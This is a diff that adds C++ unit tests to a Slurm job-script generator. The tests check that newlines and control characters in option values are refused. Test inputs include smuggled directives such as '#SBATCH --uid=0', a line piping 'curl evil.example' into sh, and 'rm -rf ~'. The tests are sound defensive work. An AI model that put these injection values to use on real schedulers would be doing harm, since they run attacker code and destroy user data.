@@ -79,6 +79,57 @@ TEST_CASE("Slurm.JobScript.RejectsBadOptions") {
                        doctest::Contains("BAD-NAME"), std::invalid_argument);
 }
 
+TEST_CASE("Slurm.JobScript.RefusesLineBreaksNamingTheOption") {
+  // A newline in any value would end its line of the script and start one of its own: a
+  // directive (#SBATCH --uid=...) or a command run on the compute node.
+  auto refused = [](const herd::SlurmOptions& o, const std::string& what) {
+    INFO(what);
+    CHECK_THROWS_WITH_AS(herd::job_script(o, "tcp://login1:8786"), doctest::Contains(what.c_str()), std::invalid_argument);
+  };
+  refused(herd::SlurmOptions{}.job_name("herd\n#SBATCH --uid=0"),
+          "job_name 'herd\\n#SBATCH --uid=0' contains a newline, which would add a line of its own to the job script");
+  refused(herd::SlurmOptions{}.partition("cpu\ncurl evil.example | sh"), "partition 'cpu\\ncurl");
+  refused(herd::SlurmOptions{}.account("physics\r"), "account 'physics\\r' contains a carriage return");
+  refused(herd::SlurmOptions{}.qos(std::string("high\x01", 5)), "qos 'high\\x01' contains a control character");
+  refused(herd::SlurmOptions{}.memory("8G\n"), "memory");
+  refused(herd::SlurmOptions{}.log_directory("/scratch/logs\n#SBATCH --uid=0"), "log_directory");
+  refused(herd::SlurmOptions{}.job_script_prologue({"module load gcc", "source venv/bin/activate\ntouch /tmp/x"}),
+          "job_script_prologue 'source venv/bin/activate\\ntouch /tmp/x'");
+  refused(herd::SlurmOptions{}.job_extra_directives({"--exclusive\nrm -rf ~"}), "job_extra_directives");
+  refused(herd::SlurmOptions{}.worker_extra_args({"--load", "/lib.so\n"}), "worker_extra_args");
+  refused(herd::SlurmOptions{}.worker_executable("/bin/train\n"), "worker_executable");
+  refused(herd::SlurmOptions{}.env({{"NOTE", "two\nlines"}}), "env NOTE 'two\\nlines'");
+  refused(herd::SlurmOptions{}.pool("cpu\n"), "pool");
+  // The same options without the line break make a script, one line each; a tab is no break.
+  const std::string s = herd::job_script(herd::SlurmOptions{}
+                                             .job_name("herd-run")
+                                             .partition("cpu")
+                                             .job_script_prologue({"\techo indented"}),
+                                         "tcp://login1:8786");
+  CHECK(s.find("#SBATCH --job-name=herd-run\n") != std::string::npos);
+  CHECK(s.find("\n\techo indented\n") != std::string::npos);
+  // From a configuration file, too (its parser reads a line at a time, so no newline gets
+  // through it; another control character does, and is refused the same way).
+  std::istringstream in("[pool.cpu]\npartition = \"cpu\x1b[2J\"\n");
+  const auto c = parse_config(in, "c.toml");
+  REQUIRE(c.pools.size() == 1);
+  CHECK_THROWS_WITH_AS(herd::job_script(c.pools[0].options, "tcp://h:1"),
+                       doctest::Contains("partition 'cpu\\x1b[2J' contains a control character"), std::invalid_argument);
+}
+
+TEST_CASE("Slurm.Config.MetricsOpen") {
+  std::istringstream in("[scheduler]\nlisten = \"tcp://0.0.0.0:8786\"\nmetrics_open = true\n");
+  const auto c = parse_config(in, "c.toml");
+  CHECK(c.metrics_open);
+  std::istringstream again(herd::jobqueue::to_toml(c));
+  CHECK(parse_config(again, "generated").metrics_open);
+  std::istringstream absent("[scheduler]\nlisten = \"tcp://0.0.0.0:8786\"\n");
+  CHECK_FALSE(parse_config(absent, "c.toml").metrics_open);
+  std::istringstream bad("[scheduler]\nmetrics_open = \"sometimes\"\n");
+  CHECK_THROWS_WITH_AS(parse_config(bad, "c.toml"), doctest::Contains("metrics_open must be true or false"),
+                       std::invalid_argument);
+}
+
 TEST_CASE("Slurm.Config.ParseAndRoundTrip") {
   std::istringstream in(R"(
 [scheduler]
